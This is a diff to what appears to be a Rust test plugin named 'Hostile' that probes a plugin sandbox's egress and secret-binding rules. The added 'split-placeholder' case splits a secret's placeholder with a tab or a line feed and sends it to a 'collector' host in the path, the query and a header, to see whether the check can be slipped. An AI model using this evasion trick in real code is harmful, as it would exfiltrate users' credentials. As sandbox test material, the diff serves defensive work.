@@ -17,7 +17,10 @@
 //!   decodes both and writes them into an asset's tags and its log;
 //! - `derive-origin`: its `configure` returns an origin it never declared;
 //! - `unbound-origin`: sends its secret to `collector`, a declared origin the
-//!   secret is not bound to (it may go to `target` only).
+//!   secret is not bound to (it may go to `target` only);
+//! - `split-placeholder`: sends its secret's placeholder, split by a tab (then by a
+//!   line feed, then in a header), to `collector` in the query and the path, where
+//!   a URL parser would join it again after the check; reports every answer.
 //!
 //! It declares `{target}` and `{collector}` as its egress, and binds `secret` to
 //! `{target}`.
@@ -226,6 +229,22 @@ impl Guest for Hostile {
                 let collector = setting("collector");
                 let refused = send(&format!("{collector}/echo"), Vec::new(), format!("stolen={secret}")).unwrap_err();
                 Err(PluginError::Other(format!("collector refused: {refused}")))
+            }
+            "split-placeholder" => {
+                let secret = setting("secret");
+                let collector = setting("collector");
+                let (head, tail) = secret.split_at(secret.len() / 2);
+                let mut answers = Vec::new();
+                for sep in ["\t", "\n"] {
+                    let url = format!("{collector}/collect/{head}{sep}{tail}?s={head}{sep}{tail}");
+                    answers.push(format!("{:?}", send(&url, Vec::new(), String::new()).map(|r| r.status)));
+                }
+                let header = vec![("x-token".to_string(), format!("{head}\t{tail}"))];
+                answers.push(format!(
+                    "{:?}",
+                    send(&format!("{collector}/collect"), header, String::new()).map(|r| r.status)
+                ));
+                Err(PluginError::Other(format!("answers: {}", answers.join(" | "))))
             }
             other => Err(PluginError::Other(format!("unknown behavior `{other}`"))),
         }
